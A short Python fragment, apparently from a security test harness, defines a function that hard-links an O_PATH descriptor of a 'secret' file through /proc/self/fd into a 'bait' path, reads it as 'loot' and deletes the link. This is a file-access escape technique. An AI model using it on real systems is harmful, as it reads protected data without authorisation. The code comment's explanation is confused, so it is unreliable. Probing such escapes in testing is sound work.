def attempt(scene):
    place, bait = os.open(scene["secret"], os.O_PATH), scene.run + "/bait"
    # Only with a directory descriptor does os.link follow links; an absolute path ignores it.
    os.link("/proc/self/fd/%d" % place, bait, src_dir_fd=0, follow_symlinks=True)
    os.close(place)
    with open(bait, "rb") as file:
        loot = file.read()
    os.remove(bait)
    return loot
